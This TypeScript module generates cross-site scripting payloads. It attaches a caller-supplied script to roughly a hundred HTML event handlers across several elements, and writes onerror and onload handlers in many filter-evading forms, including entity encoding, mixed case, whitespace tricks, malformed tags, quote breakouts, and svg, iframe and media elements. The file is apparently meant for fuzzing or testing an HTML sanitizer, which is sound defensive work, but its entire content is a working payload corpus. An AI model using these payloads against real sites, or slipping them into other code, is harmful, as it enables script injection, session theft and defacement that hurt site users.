/** Handlers that elements know, hand-written from the HTML standard's list of global and window events. */
const handlers = (
  'abort animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch beforepaste beforetoggle blur ' +
  'cancel canplay canplaythrough change click close contextlost contextmenu contextrestored copy cuechange cut dblclick drag dragend dragenter dragleave ' +
  'dragover dragstart drop durationchange emptied ended error focus formdata fullscreenchange gotpointercapture input invalid keydown keypress keyup load ' +
  'loadeddata loadedmetadata loadstart lostpointercapture mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel paste pause play ' +
  'playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerup progress ratechange reset resize scroll scrollend ' +
  'search securitypolicyviolation seeked seeking select selectionchange selectstart slotchange stalled submit suspend timeupdate toggle transitioncancel ' +
  'transitionend transitionrun transitionstart volumechange waiting wheel webkitanimationend webkitanimationiteration webkitanimationstart webkittransitionend'
).split(' ')

const hosts = [
  (on: string) => `<p ${on}>x</p>`,
  (on: string) => `<img src=x ${on}>`,
  (on: string) => `<svg ${on}><circle r=1></circle></svg>`,
  (on: string) => `<details open ${on}><summary>x</summary></details>`,
  (on: string) => `<x-unknown tabindex=0 ${on}>x</x-unknown>`,
  (on: string) => `<a href=#x ${on}>x</a>`,
  (on: string) => `<input autofocus ${on}>`,
]

/** Every handler on two kinds of elements; `run` is a script as an attribute may hold it. */
export const hostileEvents = (run: string): string[] =>
  handlers.flatMap((name, index) =>
    [0, 3].map((step) => hosts[(index + step) % hosts.length]?.(`on${name}=${run}`) ?? ''),
  )

/** One handler, written in every way that a parser still reads. */
export const hostileSpellings = (run: string): string[] => {
  const letters = (base: 10 | 16, pad = 0, end = ';') =>
    Array.from(
      run,
      (sign) => `&#${base === 16 ? 'x' : ''}${sign.charCodeAt(0).toString(base).padStart(pad, '0')}${end}`,
    ).join('')
  const values = [
    run,
    `"${run}"`,
    `'${run}'`,
    ` ${run} `,
    `\n${run}\n`,
    `"${letters(10)}"`,
    `"${letters(16)}"`,
    `"${letters(10, 7)}"`,
    `"${letters(16, 6)}"`,
    `"${letters(10, 7, '')}"`,
    `"javascript:${run}"`,
    `"\t${run};//"`,
    `"void ${run}"`,
  ]
  const shapes = [
    (value: string) => `<img src=x onerror=${value}>`,
    (value: string) => `<IMG SRC=x ONERROR=${value}>`,
    (value: string) => `<iMg/src="x"/oNeRrOr=${value}>`,
  ]
  const rare = [
    `<img src=x\nonerror\n=\n${run}>`,
    `<img src=x\tonerror\t=\t${run}>`,
    `<img src=x\fonerror=${run}>`,
    `<img src=x\ronerror=${run}>`,
    `<img src=x onerror=${run} onerror=1>`,
    `<img src="x"onerror="${run}">`,
    `<img src='x'onerror='${run}'>`,
    `<img/ /src=x/ /onerror=${run}>`,
    `<img """><img src=x onerror=${run}>`,
    `<<img src=x onerror=${run}>`,
    `<img src=x onerror=${run} <p>`,
    `<image src=x onerror=${run}>`,
    `<img =x src=x onerror=${run}>`,
    `<img src=x x=">" onerror=${run}>`,
    `<img src=x x='"' onerror=${run}>`,
    `</p/><img src=x onerror=${run}>`,
    `<p title="</p><img src=x onerror=${run}>"><img src=x onerror=${run}>`,
    `<img srcset=x onerror=${run}>`,
    `<img src=x:x onerror=${run}>`,
    `<img src onerror=${run}><img src=# onerror=${run}>`,
    `<picture><img src=x onerror=${run}></picture>`,
    `<video><source onerror=${run}></video>`,
    `<audio src=x onerror=${run}></audio>`,
    `<video src=x onerror=${run}></video>`,
    `<link rel=stylesheet href=x onerror=${run}>`,
    `<object data=x:x onerror=${run}></object>`,
    `<embed src=x:x onload=${run}>`,
    `<input type=image src=x onerror=${run}>`,
    `<iframe onload=${run}></iframe>`,
    `<svg onload=${run}>`,
    `<svg/onload=${run}>`,
    `<svg><image href=x onerror=${run} /></svg>`,
    `<style onload=${run}></style>`,
    `<marquee onstart=${run}>x</marquee>`,
    `<body onload=${run}>`,
  ]
  return [...shapes.flatMap((shape) => values.map(shape)), ...rare]
}
